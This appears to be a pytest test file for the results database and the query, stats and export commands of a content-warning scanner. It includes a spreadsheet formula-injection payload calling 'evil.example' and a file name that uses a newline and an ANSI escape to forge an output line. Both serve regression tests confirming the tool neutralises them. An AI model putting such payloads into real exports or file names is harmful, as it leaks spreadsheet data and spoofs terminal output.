"""The results database (forewarn.store) and what reads it: query, stats, export."""

from __future__ import annotations

import csv
import json
import multiprocessing
import os
import sqlite3
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from forewarn.batch import run_batch
from forewarn.cli import main
from forewarn.store import MIGRATIONS, NotADatabase, open_db, open_existing, save_report, stored_report

PARA = "He stabbed the guard and blood pooled on the stones. They walked home by the harbour, talking of nothing."


def _open_when_released(path: str, barrier: object) -> str:
    barrier.wait()  # type: ignore[attr-defined]
    try:
        open_db(path).close()
    except Exception as e:  # reported to the parent, which fails the test with it
        return f"{type(e).__name__}: {e}"
    return "ok"


@pytest.mark.skipif(sys.platform != "linux", reason="forks processes")
def test_processes_opening_a_new_database_at_once_all_succeed(tmp_path: Path) -> None:
    """Regression: migrate read which migrations were done outside the transaction applying them,
    and switching a new file to WAL answered "database is locked" at once: 7 of 20 trials of 4
    processes failed ("table works already exists", "duplicate column name: interrupted")."""
    ctx = multiprocessing.get_context("fork")
    for trial in range(8):
        db = str(tmp_path / f"{trial}.db")
        with ctx.Manager() as manager:
            barrier = manager.Barrier(4)
            with ctx.Pool(4) as pool:
                results = pool.starmap(_open_when_released, [(db, barrier)] * 4)
        assert results == ["ok"] * 4, results
        with sqlite3.connect(db) as conn:
            names = [r[0] for r in conn.execute("SELECT name FROM migrations ORDER BY name")]
        assert names == [m[0] for m in MIGRATIONS]


def test_saving_a_work_another_process_already_saved_records_the_path(tmp_path: Path) -> None:
    """Regression: a second batch on the same database died with IntegrityError (UNIQUE
    content_hash, model_version) when the other one saved the same content first."""
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "a.txt").write_text(f"Title: A\n\n{PARA}\n", encoding="utf-8")
    db = tmp_path / "r.db"
    run_batch(folder, db=db, workers=1, mode="lexicon")
    conn = open_db(db)
    (work_id, content_hash) = conn.execute("SELECT id, content_hash FROM works").fetchone()
    report = stored_report(conn, work_id)
    other = str(folder / "copy.txt")
    assert save_report(conn, report, path=other, content_hash=content_hash, seconds=0.1) == (work_id, False, True)
    assert conn.execute("SELECT COUNT(*) FROM works").fetchone()[0] == 1
    assert stored_report(conn, work_id)["work"]["paths"] == [str(folder / "a.txt"), other]
    assert json.loads(conn.execute("SELECT report_json FROM works").fetchone()[0])["work"]["title"] == "A"


def test_saving_and_exporting_look_paths_up_by_index_not_by_scanning_every_work(tmp_path: Path) -> None:
    """Regression: saving a work looked its path up in works and errors with full scans (21 ms
    more per work at 23,000 works), and export read each work's paths with its own query over
    every work (5,760 works: two minutes). Every statement they run is checked with SQLite's
    plan: saving reads no whole table; an export of 8 works a few times, not once per work."""
    folder = make_works(tmp_path / "c", 8)
    db = tmp_path / "r.db"
    run_batch(folder, db=db, workers=1, mode="lexicon")
    conn = open_db(db)
    work_id, content_hash = conn.execute("SELECT id, content_hash FROM works").fetchone()
    report = stored_report(conn, work_id)
    statements: list[str] = []
    conn.set_trace_callback(statements.append)
    save_report(conn, report, path=str(folder / "moved.txt"), content_hash=content_hash, seconds=0.1)
    saved = len(statements)
    from forewarn.export import export_db

    assert export_db(conn, fmt="csv", out=tmp_path / "all.csv") == 8
    exported = statements[saved:]
    conn.set_trace_callback(None)

    def scans(sql: str) -> list[str]:
        if not sql.lstrip().upper().startswith(("SELECT", "DELETE", "UPDATE", "INSERT")):
            return []
        plan = conn.execute("EXPLAIN QUERY PLAN " + sql.replace("?", "NULL")).fetchall()
        return [r[3] for r in plan if r[3].startswith("SCAN") and "USING" not in r[3]]

    assert not [s for s in statements[:saved] if scans(s)]  # saving: indexed lookups only
    assert len([s for s in exported if scans(s)]) <= 3  # the works chosen, and every path at once


def cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def make_works(folder: Path, n: int) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        declared = "TW: violence\n\n" if i % 2 else ""
        (folder / f"work{i:03d}.txt").write_text(f"Title: Work {i}\n{declared}{PARA} Work {i}.\n", encoding="utf-8")
    return folder


def files_next_to(db: Path) -> list[str]:
    return sorted(p.name for p in db.parent.iterdir() if p.name.startswith(db.name))


READ_COMMANDS = (["stats"], ["query"], ["export", "--format", "csv", "--out"])


def read_commands(db: Path, out: Path) -> list[list[str]]:
    return [[*c, str(out)] if c[-1] == "--out" else c for c in READ_COMMANDS]


def test_read_commands_leave_another_applications_database_untouched(tmp_path: Path) -> None:
    """Regression: stats on another app's SQLite file exited 0 ("0 works scanned") after adding
    forewarn's tables and switching it to WAL; an empty file became a results database."""
    other = tmp_path / "app.sqlite"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE notes (body TEXT)")
        conn.execute("CREATE TABLE works (title TEXT)")  # a table named like one of ours
    empty = tmp_path / "empty.db"
    empty.touch()
    batch = ["batch", str(make_works(tmp_path / "c", 1))]
    for db in (other, empty):
        before = db.read_bytes()
        for args in [*read_commands(db, tmp_path / "x.csv"), *([batch] if db == other else [])]:
            code, _, err = cli(*args, "--db", str(db))
            assert code == 2 and "not a forewarn results database" in err and len(err.splitlines()) == 1, (args, err)
        assert db.read_bytes() == before and files_next_to(db) == [db.name]


def test_read_commands_open_a_results_database_read_only(tmp_path: Path) -> None:
    """Regression: query, stats and export migrated the database and switched it to WAL
    (so a database on read-only storage could not be read at all)."""
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 2), db=db, workers=1, mode="lexicon")
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA journal_mode=DELETE")
        conn.execute("DELETE FROM migrations WHERE name = '003_work_paths'")  # as if 003 were new
    before = db.read_bytes()
    for args in read_commands(db, tmp_path / "x.csv"):
        code, out, err = cli(*args, "--db", str(db))
        assert code == 0 and "Traceback" not in err, (args, err)
    assert db.read_bytes() == before and files_next_to(db) == ["r.db"]
    conn = open_existing(db)
    with pytest.raises(sqlite3.OperationalError):
        conn.execute("DELETE FROM works")
    assert open_existing(db).execute("PRAGMA journal_mode").fetchone()[0] == "delete"


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root writes to read-only folders")
def test_a_wal_database_in_a_read_only_folder_is_read(tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "r.db"
    run_batch(make_works(tmp_path / "c", 2), db=db, workers=1, mode="lexicon")
    folder.chmod(0o555)
    try:
        code, out, _ = cli("query", "--db", str(db))
        assert code == 0 and len(out.splitlines()) == 2
    finally:
        folder.chmod(0o755)


def test_missing_database_is_a_one_line_error_from_the_opener(tmp_path: Path) -> None:
    with pytest.raises(NotADatabase, match="no such results database"):
        open_existing(tmp_path / "missing.db")
    assert not (tmp_path / "missing.db").exists()


def test_a_damaged_database_is_one_line_and_exit_2(tmp_path: Path) -> None:
    """Regression: a page overwritten gave a sqlite3.DatabaseError traceback (exit 1)."""
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 40), db=db, workers=1, mode="lexicon")
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        page = conn.execute("PRAGMA page_size").fetchone()[0]
        (root,) = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'detections'").fetchone()
    data = bytearray(db.read_bytes())
    data[(root - 1) * page : root * page] = b"\xff" * page  # opening works; reading detections does not
    db.write_bytes(bytes(data))
    open_existing(db).close()
    for args in read_commands(db, tmp_path / "x.csv"):
        code, _, err = cli(*args, "--db", str(db))
        assert code == 2 and err.strip().endswith("the results database is damaged (database disk image is malformed)")
        assert len(err.splitlines()) == 1, err


def test_after_a_model_change_each_work_is_listed_and_counted_once(tmp_path: Path) -> None:
    """Regression: after batch --scorer lexicon then cascade, query listed every path twice with
    nothing naming the model, and stats and export counted each work once per model version."""
    folder = make_works(tmp_path / "c", 2)
    (folder / "bad.txt").write_bytes(b"\x00\x01\x02" * 300)
    db = tmp_path / "r.db"
    run_batch(folder, db=db, workers=1, mode="lexicon")
    run_batch(folder, db=db, workers=1, mode="cascade")
    lexicon, cascade = (r[0] for r in sqlite3.connect(db).execute("SELECT model_version FROM runs ORDER BY id"))

    def query(*args: str) -> list[dict[str, object]]:
        code, out, _ = cli("query", "--db", str(db), "--json", *args)
        assert code == 0
        return json.loads(out)  # type: ignore[no-any-return]

    assert [(Path(str(r["path"])).name, r["model_version"]) for r in query()] == [
        ("work000.txt", cascade),
        ("work001.txt", cascade),
    ]
    assert {r["model_version"] for r in query("--model-version", lexicon)} == {lexicon}
    code, _, err = cli("query", "--db", str(db))
    assert code == 0 and err.strip() == f"2 works; model version {cascade}"
    s = json.loads(cli("stats", "--db", str(db), "--json")[1])
    assert (s["works"], s["files"], s["errors"]) == (2, 2, 1)
    assert [v["model_version"] for v in s["model_versions"]] == [cascade, lexicon]
    assert all(r["detected"] <= 2 for r in s["per_warning"])
    out = tmp_path / "x.csv"
    assert cli("export", "--db", str(db), "--out", str(out))[0] == 0
    assert [r["model_version"] for r in csv.DictReader(out.open(encoding="utf-8"))] == [cascade, cascade]
    code, _, err = cli("stats", "--db", str(db), "--model-version", "nope")
    assert code == 2 and "no results of model version nope" in err
    run_batch(folder, db=db, workers=1, mode="lexicon")  # back to the first model: nothing to scan
    assert {r["model_version"] for r in query()} == {lexicon}


def test_csv_cells_that_would_start_a_formula_get_an_apostrophe(tmp_path: Path) -> None:
    """Regression: a work titled =HYPERLINK(...) was written unchanged, a live formula in a spreadsheet."""
    folder = tmp_path / "c"
    folder.mkdir()
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    (folder / "a.txt").write_text(f"Title: {title}\nRating: @M\n\n{PARA}\n", encoding="utf-8")
    (folder / "b.txt").write_text(f"Title: -1 plain\n\n{PARA} Two.\n", encoding="utf-8")
    db = tmp_path / "r.db"
    run_batch(folder, db=db, workers=1, mode="lexicon")
    out = tmp_path / "x.csv"
    assert cli("export", "--db", str(db), "--out", str(out))[0] == 0
    a, b = csv.DictReader(out.open(encoding="utf-8"))
    assert a["title"] == "'" + title and a["rating_declared"] == "'@M"
    assert b["title"] == "'-1 plain" and b["words"].isdigit()


def test_exported_paths_can_be_split_back_whatever_the_file_names_hold(tmp_path: Path) -> None:
    """Regression: paths were ';'-joined in CSV and Parquet, so a file name with ';' could not be split back."""
    folder = tmp_path / "c"
    folder.mkdir()
    names = ["a;b.txt", 'q"uote,d.txt', "plain.txt"]
    for name in names:
        (folder / name).write_text(f"Title: Same\n\n{PARA}\n", encoding="utf-8")
    db = tmp_path / "r.db"
    run_batch(folder, db=db, workers=1, mode="lexicon")
    expected = sorted(str(folder / name) for name in names)
    out = tmp_path / "x.csv"
    assert cli("export", "--db", str(db), "--out", str(out))[0] == 0
    with open(out, encoding="utf-8", newline="") as f:
        (row,) = csv.DictReader(f)
    assert json.loads(row["paths"]) == expected and row["path"] in expected
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "x.parquet"
    assert cli("export", "--db", str(db), "--format", "parquet", "--out", str(out))[0] == 0
    assert pq.read_table(out).column("paths").to_pylist() == [expected]
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "bad.txt").write_bytes(b"")
    run_batch(empty, db=tmp_path / "e.db", workers=1, mode="lexicon")
    assert cli("export", "--db", str(tmp_path / "e.db"), "--format", "parquet", "--out", str(out))[0] == 0
    paths_type = pq.read_table(out).schema.field("paths").type
    assert paths_type.num_fields == 1 and str(paths_type.value_type) == "string"  # a list of strings


def test_export_refuses_to_write_over_the_database(tmp_path: Path) -> None:
    """Regression: export --out r.db --db r.db overwrote the database with CSV ("2 works written", exit 0)."""
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 2), db=db, workers=1, mode="lexicon")
    (tmp_path / "link.db").symlink_to(db)
    os.link(db, tmp_path / "hard.db")
    before = db.read_bytes()
    for out in (
        db,
        tmp_path / "link.db",
        tmp_path / "hard.db",
        tmp_path / "r.db-wal",
        tmp_path / "sub" / ".." / "r.db",
    ):
        code, _, err = cli("export", "--db", str(db), "--out", str(out))
        assert (
            code == 2
            and err.strip()
            == f"forewarn: error: --out {out} is the database itself (or its journal): choose another file"
        )
    assert db.read_bytes() == before


def test_query_lines_show_control_characters_in_names_as_replacement_characters(tmp_path: Path) -> None:
    """Regression: a file name with a newline forged a result line, and ANSI escapes reached the terminal."""
    folder = tmp_path / "c"
    folder.mkdir()
    name = "a\nforged.txt  [suggested: General Audiences]  -\x1b[31m.txt"
    (folder / name).write_text(f"Title: A\n\n{PARA}\n", encoding="utf-8")
    db = tmp_path / "r.db"
    run_batch(folder, db=db, workers=1, mode="lexicon")
    code, out, _ = cli("query", "--db", str(db))
    (line,) = out.splitlines()
    assert code == 0 and "\x1b" not in line and "a\ufffdforged.txt" in line
    (row,) = json.loads(cli("query", "--db", str(db), "--json")[1])
    assert row["path"] == str(folder / name)  # JSON keeps the name exactly


def test_a_stored_report_cut_short_is_a_damaged_database_not_a_traceback(tmp_path: Path) -> None:
    db = tmp_path / "r.db"
    run_batch(str(make_works(tmp_path / "c", 1)), db=db, workers=1, mode="lexicon")
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE works SET report_json = substr(report_json, 1, 50)")
    code, out, err = cli("export", "--db", str(db), "--out", str(tmp_path / "x.jsonl"), "--format", "jsonl")
    assert code == 2 and "the results database is damaged" in err and "Traceback" not in err + out


@pytest.mark.parametrize("cell", [" =1+1", "\u3000@SUM(A1)", "\uff1dHYPERLINK(1)", "  -2+3"])
def test_formulas_behind_spaces_or_in_full_width_are_guarded_too(cell: str) -> None:
    from forewarn.export import _csv_cell

    assert _csv_cell(cell) == "'" + cell
    assert _csv_cell("A plain title") == "A plain title"


def _format_of(data: bytes) -> str:
    """Which export format ``data`` is: Parquet's magic, a JSON object per line, or CSV's header."""
    if data.startswith(b"PAR1"):
        return "parquet"
    first = data.split(b"\n", 1)[0]
    if first.startswith(b"{"):
        json.loads(first)
        return "jsonl"
    assert first.startswith(b"path,paths,"), data[:80]
    return "csv"


@pytest.mark.parametrize(
    ("out", "fmt", "written"),
    [
        ("x.csv", None, "csv"),
        ("x", None, "csv"),  # no suffix: CSV, as before
        # Regression: these got CSV, as --format defaulted to csv whatever the name.
        ("x.jsonl", None, "jsonl"),
        ("x.ndjson", None, "jsonl"),
        ("X.JSONL", None, "jsonl"),
        ("x.parquet", None, "parquet"),
        ("x.parquet", "parquet", "parquet"),
        ("x.out", "jsonl", "jsonl"),  # a suffix that names no format: --format decides
    ],
)
def test_export_takes_its_format_from_the_out_suffix(tmp_path: Path, out: str, fmt: str | None, written: str) -> None:
    if written == "parquet":
        pytest.importorskip("pyarrow")
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 2), db=db, workers=1, mode="lexicon")
    code, stdout, _ = cli("export", "--db", str(db), "--out", str(tmp_path / out), *(["--format", fmt] if fmt else []))
    assert code == 0 and stdout == f"2 works written to {tmp_path / out}\n"
    assert _format_of((tmp_path / out).read_bytes()) == written


@pytest.mark.parametrize(
    ("out", "fmt", "message"),
    [
        ("x.parquet", "csv", "--format csv does not match --out x.parquet: a .parquet file is parquet"),
        ("x.csv", "jsonl", "--format jsonl does not match --out x.csv: a .csv file is csv"),
        ("x.ndjson", "parquet", "--format parquet does not match --out x.ndjson: a .ndjson file is jsonl"),
        ("x.json", None, "cannot tell the format from --out x.json: give --format csv, jsonl or parquet"),
        ("x.xlsx", None, "cannot tell the format from --out x.xlsx: give --format csv, jsonl or parquet"),
    ],
)
def test_export_refuses_a_format_its_out_suffix_contradicts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, out: str, fmt: str | None, message: str
) -> None:
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 1), db=db, workers=1, mode="lexicon")
    monkeypatch.chdir(tmp_path)
    code, _, err = cli("export", "--db", str(db), "--out", out, *(["--format", fmt] if fmt else []))
    assert code == 2 and message in err, err
    assert not (tmp_path / out).exists()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", None])
def test_export_out_dash_writes_to_stdout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str | None) -> None:
    """Regression: --out - wrote a file named '-' and said "2 works written to -"."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 2), db=db, workers=1, mode="lexicon")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--out", "-", *(["--format", fmt] if fmt else [])])
    assert result.exit_code == 0 and not (tmp_path / "-").exists(), result.output
    assert _format_of(result.stdout_bytes) == (fmt or "csv")  # no suffix to go by: CSV
    assert result.stderr == "2 works written to stdout\n"
    out = tmp_path / f"x.{fmt or 'csv'}"
    cli("export", "--db", str(db), "--out", str(out), *(["--format", fmt] if fmt else []))
    if fmt != "parquet":  # the same bytes as in a file (Parquet's embed the writer's metadata)
        assert result.stdout_bytes == out.read_bytes()
    else:
        import io

        import pyarrow.parquet as pq

        assert pq.read_table(io.BytesIO(result.stdout_bytes)).equals(pq.read_table(out))


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
def test_export_refuses_to_write_parquet_to_a_terminal(tmp_path: Path) -> None:
    """Parquet is binary: on a pipe or in a file it is written, on a terminal it is refused (as gzip does)."""
    import pty
    import subprocess

    pytest.importorskip("pyarrow")
    db = tmp_path / "r.db"
    run_batch(make_works(tmp_path / "c", 1), db=db, workers=1, mode="lexicon")
    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "forewarn", "export", "--db", str(db), "--format", "parquet", "--out", "-"],
            stdout=follower,
            cwd=tmp_path,  # a file named "-" (as before the fix) lands here, not in the repository
            stderr=subprocess.PIPE,
            env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
            timeout=60,
        )
    finally:
        os.close(follower)
        os.close(leader)
    assert done.returncode == 2 and b"Parquet is binary" in done.stderr, done.stderr
